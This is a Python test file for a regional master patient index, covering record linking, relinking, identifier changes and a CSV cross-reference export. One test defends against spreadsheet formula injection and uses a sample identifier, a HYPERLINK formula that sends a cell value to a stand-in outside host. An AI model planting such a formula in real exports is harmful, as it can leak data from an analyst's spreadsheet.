"""Link-on-write, the batch relink and the xref export on both stores (SQLite and PostgreSQL)."""

from __future__ import annotations

import csv
import io

import pytest
from mpi_factories import NHS_OTHER, TRUST_A, TRUST_B, demographics, same_family_estimates
from sqlalchemy import Engine, select

from mpi import MATCH, PatientIndex, RecordKey
from mpi.batch import _held_patients, relink
from mpi.tables import RegionalPatient
from mpi.xref import write_xref
from priorscan.db import session_factory
from priorscan.trusts import default_trusts


def test_identity_round_trip_on_each_backend(engine: Engine) -> None:
    with session_factory(engine)() as session:
        index = PatientIndex(session, default_trusts())
        first = index.upsert(demographics(TRUST_A, "A1"), event="t", actor="feed")
        second = index.upsert(demographics(TRUST_B, "B1", given="Ellie", birth_date="1978-14-03"), event="t",
                              actor="feed")
        other = index.upsert(demographics(TRUST_B, "B2", nhs_number=NHS_OTHER, given="Margaret"), event="t",
                             actor="feed")
        session.commit()
        assert second.regional_id == first.regional_id and second.link_state == MATCH
        assert other.regional_id != first.regional_id
        assert index.match(demographics("q", "q", nhs_number=None))[0].regional_id == first.regional_id
        index.unlink(RecordKey(TRUST_A, "A1"), RecordKey(TRUST_B, "B1"), actor="clerk")
        session.commit()
        result = relink(session)
        session.commit()
        assert result.records == 3
        a = index.require_record(RecordKey(TRUST_A, "A1"))
        b = index.require_record(RecordKey(TRUST_B, "B1"))
        assert a.regional_patient_id != b.regional_patient_id
        out = io.StringIO()
        assert write_xref(session, out) == 3 + 3  # three records; an NHS number per patient holding it


def test_records_written_after_a_bulk_load_get_fresh_ids(engine: Engine) -> None:
    from mpi.batch import bulk_load

    with session_factory(engine)() as session:
        assert bulk_load(session, [demographics(TRUST_A, f"L{i}", nhs_number=None, given=f"G{i}") for i in range(3)])
        session.commit()
        outcome = PatientIndex(session, default_trusts()).upsert(demographics(TRUST_B, "NEW"), event="t", actor="f")
        session.commit()
        assert outcome.source_record_id > 3


def test_the_xref_lists_current_identifiers_not_those_replaced_by_a47(engine: Engine) -> None:
    """An identifier replaced by A47 names nobody: the export agrees with PIXm and the resolver, and when the PAS
    gives the old number to another person the identifier has one row, for that person."""
    with session_factory(engine)() as session:
        index = PatientIndex(session, default_trusts())
        first = index.upsert(demographics(TRUST_A, "A1"), event="ADT^A04", actor="feed")
        index.change_identifier(RecordKey(TRUST_A, "A1"), RecordKey(TRUST_A, "A1-NEW"), actor="pas")
        session.commit()
        rows = _xref(session)
        assert (first.regional_id, TRUST_A, "A1-NEW") in rows
        assert not [r for r in rows if r[1:] == (TRUST_A, "A1")], "the replaced number is not exported"
        reused = index.upsert(demographics(TRUST_A, "A1", given="Rupert", family="Okafor", birth_date="1990-10-02",
                                           nhs_number=NHS_OTHER, sex="male", postcode="BN1 1AA",
                                           address="2 Sea Road", phone=None), event="ADT^A04", actor="feed")
        session.commit()
        assert reused.regional_id != first.regional_id
        assert [r[0] for r in _xref(session) if r[1:] == (TRUST_A, "A1")] == [reused.regional_id]


def _xref(session) -> list[tuple[str, str, str]]:  # type: ignore[no-untyped-def]
    out = io.StringIO()
    write_xref(session, out)
    return [tuple(line.split(",")[:3]) for line in out.getvalue().splitlines()[1:]]  # type: ignore[misc]


def test_the_relink_finds_the_held_patients_the_orm_query_found(engine: Engine) -> None:
    """The write-back's look-up of which new regional ids the store holds already (an array on PostgreSQL, chunks
    of row values on SQLite) gives the set the ORM's ``IN`` query gave: stored ids across SQLite's chunks of 2 000,
    one added to the session and not yet flushed (the query flushed it first), ids the store does not hold."""
    stored = {f"RPSTORED{n:05d}" for n in range(0, 4_100, 3)}
    with session_factory(engine)() as session:
        session.add_all([RegionalPatient(id=f"RPSTORED{n:05d}") for n in range(4_100)])
        session.commit()
        session.add(RegionalPatient(id="RPPENDING0001"))
        ids = stored | {"RPPENDING0001"} | {f"RPABSENT{n:05d}" for n in range(900)}
        found = _held_patients(session, ids)
        assert found == set(session.scalars(select(RegionalPatient.id).where(RegionalPatient.id.in_(ids))).all())
        assert found == stored | {"RPPENDING0001"}


def test_a_relink_learns_the_same_family_u_once_with_its_model_s_last_pass(
        engine: Engine, monkeypatch: pytest.MonkeyPatch) -> None:
    """The relink's trained model takes its same-family u from one estimate, made with the m and u of training's
    last pass (the first pass's estimate, thrown away, is no longer made), and stores that model; on both stores."""
    from bench.mpi_population import make_population
    from mpi.batch import bulk_load
    from mpi.model import Model
    from mpi.tables import MatchModel

    calls = same_family_estimates(monkeypatch)
    with session_factory(engine)() as session:
        bulk_load(session, make_population(800, seed=11).records)
        session.commit()
        result = relink(session)
        session.commit()
        row = session.get(MatchModel, result.model_version)
        assert row is not None
        stored = Model.from_dict(row.parameters)
    assert result.trained and stored.training["household"]["pairs"] > 0, "two passes ran"
    assert len(calls) == 1
    used, found = calls[0]
    assert used.m == stored.m and used.u == stored.u and found == stored.u_same_family and found


def test_the_xref_writes_no_cell_a_spreadsheet_would_run(engine: Engine) -> None:
    """Hazard log H-SEC-17: a feed's identifier ``=HYPERLINK(...)`` was written as sent, a formula when an analyst
    opened the export in a spreadsheet; it is written with a quote before it, and an ordinary identifier as it is."""
    with session_factory(engine)() as session:
        index = PatientIndex(session, default_trusts())
        index.upsert(demographics(TRUST_A, "=HYPERLINK(\"https://x.example/?\"&A1,\"open\")"), event="t", actor="f")
        index.upsert(demographics(TRUST_B, "B7", nhs_number=NHS_OTHER, given="Margaret"), event="t", actor="f")
        session.commit()
        out = io.StringIO()
        write_xref(session, out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    values = [row[2] for row in rows[1:]]
    assert "'=HYPERLINK(\"https://x.example/?\"&A1,\"open\")" in values
    assert "B7" in values and NHS_OTHER in values
    assert not [v for v in values if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
